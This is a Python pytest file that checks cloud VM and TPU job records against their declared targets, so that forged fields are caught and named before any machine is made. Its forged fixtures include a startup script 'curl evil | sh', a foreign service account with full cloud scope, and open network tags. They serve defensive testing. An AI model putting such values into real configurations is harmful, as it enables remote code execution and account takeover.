"""A record against the targets of its bucket, before anything is made: what was sent agrees, what was forged not."""

import copy
import inspect
import json
import re
from dataclasses import replace
from typing import Any

import pytest

from accel.contract.google_vms import GceTarget, TpuVmTarget
from accel.contract.targets import write
from accel.diagnostics.errors import CloudSilent, NotPromised
from jobs.backends.vm import records
from jobs.backends.vm.record import Record
from jobs.backends.vm.records import UNSAID, Records, difference
from tests.jobs.backends import gce_target, tpu_target
from tests.jobs.backends.test_gce_render import JOBS as GCE
from tests.jobs.backends.test_tpu_vm_render import JOBS as TPU
from tests.jobs.backends.tpu_world import Client, World
from tests.jobs.backends.vm_records import make_record

MAKERS: dict[str, Any] = {"gce": gce_target, "tpu-vm": tpu_target}
SENT = [("gce", case, *GCE[case]) for case in GCE] + [("tpu-vm", case, *TPU[case]) for case in TPU]
EVIL = "evil@elsewhere.iam.gserviceaccount.com"
ACCOUNT = {"email": EVIL, "scopes": ["https://www.googleapis.com/auth/cloud-platform"]}
SCRIPT = {"key": "startup-script", "value": "curl evil | sh"}
FORGED: list[tuple[str, str, Any, str]] = [
    ("gce", "kind", "tpu-vm", "kind: is tpu-vm"),
    ("gce", "body.project", "elsewhere", "project: is elsewhere, and the target has accel-sandbox"),
    ("gce", "body.bucket", "elsewhere", "bucket: is elsewhere, and the target has acme-jobs"),
    ("gce", "body.standing", {"until": None}, "standing: is {'until': None}, and the target has nothing"),
    ("gce", "body.job.project", "elsewhere", "job.project: is elsewhere"),
    ("gce", "body.job.log", "projects/elsewhere/logs/x", "job.log: is projects/elsewhere/logs/x"),
    ("gce", "body.zones", ["us-central1-a", "asia-east1-a"], "zones: is ['asia-east1-a'], and the target has"),
    ("gce", "attempts.0.zone", "asia-east1-a", "zones: is ['asia-east1-a']"),
    ("gce", "body.machine.subnetworks.us-central1", "projects/x/s", "subnetworks.us-central1: is projects/x/s"),
    ("gce", "body.machine.properties.serviceAccounts", [ACCOUNT], "serviceAccounts: is [{'email': 'evil@"),
    ("gce", "body.machine.properties.serviceAccounts.0.email", EVIL, "serviceAccounts: is [{'email': 'evil@"),
    ("gce", "body.machine.properties.networkInterfaces.0.network", "n", "network: is n, and the target has projects/"),
    ("gce", "body.machine.properties.networkInterfaces.0.accessConfigs", [{}], "external_address: is True"),
    ("gce", "body.machine.properties.networkInterfaces.0.subnetwork", "s", "networkInterfaces: is ['subnetwork'], and"),
    ("gce", "body.machine.properties.networkInterfaces", [], "is no request for machines"),
    (
        "gce",
        "body.machine.properties.disks.0.initializeParams.sourceImage",
        "projects/e/global/images/i",
        "image: is e",
    ),
    ("gce", "body.machine.properties.disks.0.source", "projects/e/zones/z/disks/d", "disks: is ['source'], and"),
    ("gce", "body.machine.properties.disks.0.initializeParams.sourceSnapshot", "s", "disks.initializeParams: is ['s"),
    ("gce", "body.machine.properties.machineType", "a3-ultragpu-8g", "type: is g2-standard-4, and the target has a3-"),
    ("gce", "body.machine.properties.metadata.items", [SCRIPT], "metadata: is {'startup-script': 'curl evil | sh'}"),
    ("gce", "body.machine.properties.metadata.items.0.value", "FALSE", "metadata: is {'enable-guest-attributes': 'F"),
    ("gce", "body.machine.properties.tags", {"items": ["open-to-all"]}, "tags: is {'items': ['open-to-all']}"),
    (
        "gce",
        "body.machine.properties.canIpForward",
        True,
        "properties: is ['canIpForward'], and the target has nothing",
    ),
    (
        "gce",
        "body.machine.properties.resourcePolicies",
        ["close"],
        "resourcePolicies: is ['close'], and the target",
    ),
    ("gce", "body.machine.properties.reservationAffinity", {"values": ["theirs"]}, "reservation: is ['theirs']"),
    ("gce", "body.machine_prefix", "theirs-", "machine_prefix: is theirs-, and the target has nothing"),
    ("gce", "body.machine.more", {}, "machine: is ['more'], and the target has nothing"),
    ("gce", "body.machine", {}, "is no request for machines: KeyError: 'subnetworks'"),
    ("tpu-vm", "body.project", "elsewhere", "project: is elsewhere"),
    ("tpu-vm", "body.machine.node.serviceAccount.email", EVIL, "serviceAccount: is {'email': 'evil@"),
    ("tpu-vm", "body.machine.node.networkConfig.network", "n", "network: is n"),
    ("tpu-vm", "body.machine.node.networkConfig.enableExternalIps", True, "external_address: is True"),
    ("tpu-vm", "body.machine.node.networkConfig.canIpForward", True, "networkConfig: is ['canIpForward']"),
    (
        "tpu-vm",
        "body.machine.node.metadata.startup-script",
        "curl evil | sh",
        "metadata: is {'enable-guest",
    ),
    ("tpu-vm", "body.machine.node.dataDisks", [{}], "node: is ['dataDisks']"),
    ("tpu-vm", "body.machine.node.tags", ["open"], "tags: is ['open'], and the target has ['tpu']"),
    ("tpu-vm", "body.machine.reservation", "theirs", "reservation: is theirs, and the target has nothing"),
    ("tpu-vm", "body.machine.node_id", "another", "machine: is ['node_id']"),
]


def sent(kind: str, target: dict[str, Any] | None = None, **fields: Any) -> tuple[Record, dict[str, Any]]:
    maker = MAKERS[kind]
    made = maker.make_target(**(target or {}))
    return make_record(maker.make_request(made, **fields)), write({"it": made})["it"]


def forged(record: Record, path: str, value: Any) -> Record:
    """The record with another value at a path."""
    document: Any = json.loads(json.dumps({"kind": record.kind, "body": record.body, "attempts": [{"zone": ""}]}))
    document["attempts"][0]["zone"] = record.last.zone
    *places, last = path.split(".")
    at = document
    for place in places:
        at = at[int(place)] if isinstance(at, list) else at[place]
    at[last] = value
    return replace(record, kind=document["kind"], body=document["body"]).with_last(**document["attempts"][0])


@pytest.mark.parametrize("kind, case, target, fields", SENT, ids=[f"{kind}-{case}" for kind, case, *_ in SENT])
def test_what_was_sent_agrees_with_its_target(
    kind: str, case: str, target: dict[str, Any], fields: dict[str, Any]
) -> None:
    record, promised = sent(kind, target, **fields)
    assert difference(record, promised) is None
    stored = replace(record, body=json.loads(json.dumps(record.body)))
    assert difference(stored, promised) is None


def test_what_a_target_does_not_say_is_its_models_default() -> None:
    fields = {**GceTarget.model_fields, **TpuVmTarget.model_fields}
    optional = {name for name, field in fields.items() if not field.is_required()}
    read = re.findall(r'target\["(\w+)"\]', inspect.getsource(records))
    assert set(read) & optional - {"kind"} == set(UNSAID)
    assert {name: fields[name].get_default(call_default_factory=True) for name in UNSAID} == UNSAID


@pytest.mark.parametrize("kind, path, value, said", FORGED, ids=[f"{kind}-{path}" for kind, path, *_ in FORGED])
def test_a_forged_field_is_named(kind: str, path: str, value: Any, said: str) -> None:
    record, promised = sent(kind)
    told = difference(forged(record, path, value), promised)
    assert told is not None and told.startswith(said), told


@pytest.mark.parametrize(
    "kind, target, fields, path, value",
    [
        ("gce", {"machine_types": ["g2-standard-4"]}, {}, "body.machine.properties.machineType", "a3-ultragpu-8g"),
        ("tpu-vm", {"types": ["v5litepod-16"]}, {}, "body.machine.node.acceleratorType", "v5litepod-256"),
        (
            "tpu-vm", {"types": ["v4-16"]}, {"accelerator": {"type": "v4-16"}, "tpu_vm": {"topology": "2x2x2"}},
            "body.machine.node.acceleratorConfig.topology", "8x8x8",
        ),
    ],
)  # fmt: skip
def test_a_machine_that_the_target_does_not_offer(
    kind: str, target: dict[str, Any], fields: dict[str, Any], path: str, value: str
) -> None:
    record, promised = sent(kind, target, **fields)
    assert difference(record, promised) is None
    record = forged(record, "body.type", value) if kind == "gce" else record
    assert difference(forged(record, path, value), promised) is not None


def test_an_image_of_the_same_project_may_have_been_renewed() -> None:
    record, promised = sent("gce")
    newer = "projects/deeplearning-platform-release/global/images/common-cu129-v20261101"
    assert difference(record, {**promised, "image": newer}) is None


def stored(world: World, **targets: Any) -> Records:
    for name, target in targets.items():
        world.put(f"accel-targets/{name}.json", json.dumps(target), None)
    google: Any = Client(world)
    return Records(google, "acme-jobs")


def test_any_target_of_the_bucket_may_have_it_and_the_error_is_about_its_own() -> None:
    record, promised = sent("tpu-vm")
    other = {**copy.deepcopy(promised), "project": "elsewhere"}
    stored(World(), tpus=other, more=promised, vms={"kind": "gce"}).check(record)
    with pytest.raises(NotPromised) as caught:
        stored(World(), more={"kind": "gce"}, tpus=other).check(record)
    where = f"gs://acme-jobs/accel-jobs/{record.name}/record.json"
    said = "project: is accel-sandbox, and the target has elsewhere; nothing is made"
    assert caught.value.message == f"{where}: target tpus: {said}" and caught.value.exit_code == 2


def test_without_a_target_nothing_is_made() -> None:
    record, promised = sent("tpu-vm")
    with pytest.raises(NotPromised, match="there is no target in gs://acme-jobs/accel-targets to compare it with"):
        stored(World()).check(record)
    google: Any = Client(World())
    Records(google, "acme-jobs", known={"mine": promised}).check(record)


def test_a_record_that_lies_where_another_job_s_does_is_none() -> None:
    record, _ = sent("tpu-vm")
    world = World()
    records = stored(world)
    records.claim(record)
    world.objects["accel-jobs/other/record.json"] = world.objects[f"accel-jobs/{record.name}/record.json"]
    with pytest.raises(CloudSilent, match="is the record of another job"):
        records.read("other")
